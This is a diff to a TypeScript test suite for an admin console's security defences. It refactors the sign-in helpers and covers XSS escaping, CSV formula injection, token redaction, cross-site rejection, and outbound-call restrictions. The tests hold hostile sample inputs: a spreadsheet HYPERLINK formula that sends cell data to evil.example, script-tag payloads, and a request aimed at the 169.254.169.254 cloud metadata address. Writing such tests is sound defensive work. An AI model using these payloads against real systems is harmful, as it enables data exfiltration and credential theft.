@@ -8,7 +8,7 @@ import type { Administration } from '../../src/admin/administration.ts';
 import { csvCell } from '../../src/console/pages/audit/export.ts';
 import type { ErrorCode } from '../../src/model/failure.ts';
 import { milliseconds } from '../../src/model/units.ts';
-import { startConsole } from '../console/console_under_test.ts';
+import { expectText, signedIn } from '../console/signed_in.ts';
 import { PageClient } from '../http/page_client.ts';
 import { ManualClock } from '../support/manual_clock.ts';
 
@@ -68,23 +68,9 @@ const gateway: Partial<Administration> = {
   ],
 };
 
-async function signedIn(username = 'admin', more: { clock?: ManualClock } = {}) {
-  const gate = await startConsole({ more: gateway, ...more });
-  const browser = new PageClient(gate.url);
-  const fields = { username, password: 'looking-glass' };
-  await browser.submit(await browser.get('/sign-in'), '/sign-in', fields);
-  const csrf = (await browser.get('/clients')).form('/sign-out')?.['csrf'] ?? '';
-  return { gate, browser, csrf };
-}
-
-function expectText(page: { readonly status: number; readonly text: string }, where: string): void {
-  expect(page.text, where).not.toMatch(/<script>|<img/);
-  expect(page.text, where).toContain('&lt;script&gt;alert(1)');
-}
-
 describe('what callers and upstreams sent', () => {
   it('stays text on the pages that show it', async () => {
-    const { browser, csrf, gate } = await signedIn();
+    const { browser, csrf, gate } = await signedIn({ more: gateway });
     const query = new URLSearchParams({ method: SCRIPT, target: `/${SCRIPT}`, host: SCRIPT });
     const pages = {
       '/': await browser.get('/'),
@@ -124,7 +110,7 @@ describe('what callers and upstreams sent', () => {
   });
 
   it('is data, not a page, where script of ours asks for it, and only for who is signed in', async () => {
-    const { browser, gate } = await signedIn();
+    const { browser, gate } = await signedIn({ more: gateway });
     for (const path of ['/overview.json', '/routes.json']) {
       const answer = await browser.get(path);
       expect(answer.headers.get('content-type')).toBe('application/json');
@@ -135,7 +121,7 @@ describe('what callers and upstreams sent', () => {
   });
 
   it('is no formula in an export, whatever hides before it', async () => {
-    const { browser, gate } = await signedIn();
+    const { browser, gate } = await signedIn({ more: gateway });
     const { audit, clock } = gate.administration;
     const evil = [
       '=HYPERLINK("http://evil.example/?x="&A1)',
@@ -172,7 +158,7 @@ describe('what callers and upstreams sent', () => {
 
 describe('a token that is pasted to have a call explained or made', () => {
   it('is in no page, address, log or audit event afterwards', async () => {
-    const { browser, csrf, gate } = await signedIn();
+    const { browser, csrf, gate } = await signedIn({ more: gateway });
     const fields = {
       ...{ csrf, method: 'GET', token: TOKEN, host: 'api.example.com' },
       target: `/x?access_token=${TOKEN}&a=b`,
@@ -203,13 +189,13 @@ describe('a token that is pasted to have a call explained or made', () => {
 
 describe('calls that the console makes', () => {
   it('are made for administrators alone, and for no other site', async () => {
-    const auditor = await signedIn('auditor');
+    const auditor = await signedIn({ more: gateway, username: 'auditor' });
     expect((await auditor.browser.get('/explain')).text).not.toContain('Try it');
     const before = calls.length;
     const fields = { method: 'DELETE', target: '/everything' };
     expect((await auditor.browser.post('/explain/try', { ...fields, csrf: auditor.csrf })).status).toBe(403);
     expect((await auditor.browser.post('/explain', { ...fields, csrf: auditor.csrf })).status).toBe(200);
-    const admin = await signedIn();
+    const admin = await signedIn({ more: gateway });
     const foreign = { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' };
     expect((await admin.browser.post('/explain/try', { ...fields, csrf: admin.csrf }, foreign)).status).toBe(403);
     expect((await admin.browser.post('/explain/try', { ...fields, csrf: auditor.csrf })).status).toBe(422);
@@ -220,7 +206,7 @@ describe('calls that the console makes', () => {
   });
 
   it('say nothing of where they go: only the path, never another server', async () => {
-    const { browser, csrf } = await signedIn();
+    const { browser, csrf } = await signedIn({ more: gateway });
     await browser.post('/explain/try', { csrf, method: 'GET', target: 'http://169.254.169.254/latest/meta-data' });
     expect(calls.at(-1)).toMatchObject({ target: '/latest/meta-data', host: '169.254.169.254' });
     const before = calls.length;
@@ -234,7 +220,7 @@ describe('calls that the console makes', () => {
 describe('a page that is left open', () => {
   it('keeps nobody signed in by asking for numbers', async () => {
     const clock = new ManualClock();
-    const { browser } = await signedIn('admin', { clock });
+    const { browser } = await signedIn({ more: gateway, clock });
     const minute = 60_000;
     for (let asked = 0; asked < 12; asked++) {
       clock.advance(milliseconds(2 * minute));
